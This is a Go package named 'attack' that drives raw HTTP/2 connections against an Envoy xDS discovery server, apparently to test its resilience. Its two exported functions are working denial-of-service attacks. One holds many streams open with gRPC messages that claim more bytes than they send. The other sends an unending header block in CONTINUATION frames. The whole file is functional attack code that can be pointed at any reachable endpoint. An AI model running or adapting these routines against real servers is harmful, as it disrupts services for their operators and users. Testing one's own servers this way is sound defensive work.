package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"
)

// Target is a port of xDS.
type Target struct {
	// Dial opens a connection, over TLS with ALPN h2 where the port wants that.
	Dial func() (net.Conn, error)
	// Token goes into the authorization header; empty: there is none.
	Token string
}

// Plain is the target of an address without TLS.
func Plain(address string) Target {
	return Target{Dial: func() (net.Conn, error) { return net.Dial("tcp", address) }}
}

// Raw is an HTTP/2 connection that keeps to the windows of the server and else
// does what it is told.
type Raw struct {
	net.Conn
	token string

	mu      sync.Mutex // of writing, and of what follows
	framer  *http2.Framer
	window  int
	initial int
	windows map[uint32]int
	closed  bool
}

// Connect opens a connection, writes the preface and answers SETTINGS and PING.
func (t Target) Connect() (*Raw, error) {
	conn, err := t.Dial()
	if err != nil {
		return nil, err
	}
	r := &Raw{Conn: conn, token: t.Token, framer: http2.NewFramer(conn, conn), window: 65535, initial: 65535, windows: map[uint32]int{}}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		conn.Close()
		return nil, err
	}
	if err := r.framer.WriteSettings(); err != nil {
		conn.Close()
		return nil, err
	}
	go r.read()
	return r, nil
}

// Closed says whether the server has closed the connection.
func (r *Raw) Closed() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.closed
}

func (r *Raw) read() {
	for {
		f, err := r.framer.ReadFrame()
		r.mu.Lock()
		if err != nil {
			r.closed = true
			r.mu.Unlock()
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
					for id := range r.windows {
						r.windows[id] += int(v) - r.initial
					}
					r.initial = int(v)
				}
				_ = r.framer.WriteSettingsAck()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				_ = r.framer.WritePing(true, f.Data)
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				r.window += int(f.Increment)
			} else {
				r.windows[f.StreamID] += int(f.Increment)
			}
		}
		r.mu.Unlock()
	}
}

// Headers is the block that opens a stream of delta ADS, with further fields.
func (r *Raw) Headers(more ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "x"},
		{Name: ":path", Value: "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}
	if r.token != "" {
		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + r.token})
	}
	for _, f := range append(fields, more...) {
		_ = e.WriteField(f)
	}
	return b.Bytes()
}

// Open opens a stream; ids are odd and rise.
func (r *Raw) Open(id uint32) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.windows[id] = r.initial
	return r.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: r.Headers(), EndHeaders: true})
}

// Reset ends a stream.
func (r *Raw) Reset(id uint32) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	delete(r.windows, id)
	return r.framer.WriteRSTStream(id, http2.ErrCodeCancel)
}

// Send writes bytes on a stream as far as windows allow, until ctx ends. It
// returns how many it wrote.
func (r *Raw) Send(ctx context.Context, id uint32, p []byte) int {
	sent := 0
	for len(p) > 0 && ctx.Err() == nil {
		r.mu.Lock()
		n := min(len(p), 16<<10, r.window, r.windows[id])
		if n > 0 {
			if err := r.framer.WriteData(id, false, p[:n]); err != nil {
				r.mu.Unlock()
				return sent
			}
			r.window, r.windows[id] = r.window-n, r.windows[id]-n
			p, sent = p[n:], sent+n
		}
		closed := r.closed
		r.mu.Unlock()
		if closed {
			return sent
		}
		if n <= 0 {
			time.Sleep(time.Millisecond)
		}
	}
	return sent
}

// Node is that of an Envoy with a node id.
func Node(id string) *corev3.Node {
	return &corev3.Node{Id: id, Cluster: "x", UserAgentName: "envoy"}
}

// message is a gRPC message that claims to be size bytes long.
func message(body []byte, size int) []byte {
	out := make([]byte, 5, 5+len(body))
	binary.BigEndian.PutUint32(out[1:], uint32(size)) //nolint:gosec // sizes of attacks are small
	return append(out, body...)
}

// Partial sends, on each of some streams of one connection, a valid first
// message and all but the end of a second one of the size. It returns when the
// server takes no more, or ctx ends; the connection stays open.
func Partial(ctx context.Context, to Target, nodeID string, streams, size int) (*Raw, error) {
	r, err := to.Connect()
	if err != nil {
		return nil, err
	}
	first, err := proto.Marshal(&discoveryv3.DeltaDiscoveryRequest{Node: Node(nodeID),
		TypeUrl: "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret", ResourceNamesSubscribe: []string{"default"}})
	if err != nil {
		return nil, err
	}
	body := message(make([]byte, size), size+1000)
	var all sync.WaitGroup
	for i := range streams {
		id := uint32(2*i + 1) //nolint:gosec // few
		if err := r.Open(id); err != nil {
			return r, err
		}
		all.Go(func() { r.Send(ctx, id, append(message(first, len(first)), body...)) })
	}
	all.Wait()
	return r, nil
}

// EndlessHeaders sends a block of headers that does not end, of at least size
// bytes, in CONTINUATION frames. It returns the connection, and how many bytes
// were written until the server closed it.
func EndlessHeaders(to Target, size int) (*Raw, int, error) {
	r, err := to.Connect()
	if err != nil {
		return nil, 0, err
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	block := r.Headers()
	if err := r.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block}); err != nil {
		return r, 0, err
	}
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	written := 0
	for i := 0; written < size; i++ {
		b.Reset()
		_ = e.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-", i), Value: strings.Repeat("~", 8<<10), Sensitive: true})
		if err := r.framer.WriteContinuation(1, false, b.Bytes()); err != nil {
			return r, written, nil //nolint:nilerr // the server has had enough
		}
		written += b.Len()
	}
	return r, written, nil
}
